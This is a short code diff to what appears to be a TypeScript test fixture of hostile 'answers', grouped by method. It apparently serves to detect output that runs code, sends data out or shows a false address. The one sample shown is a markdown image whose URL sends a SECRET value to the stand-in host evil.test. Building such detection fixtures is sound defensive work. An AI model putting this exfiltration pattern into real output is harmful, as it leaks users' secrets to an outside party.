@@ -1,4 +1,4 @@
-/** Answers that try to run something, to send something out or to show a false address, by the way they try it. */
+/** Answers that try to run code, to send data out or to show a false address, by their method. */
 export const hostile: Record<string, string[]> = {
   'images that send something out': [
     '![x](https://evil.test/?d=SECRET)',
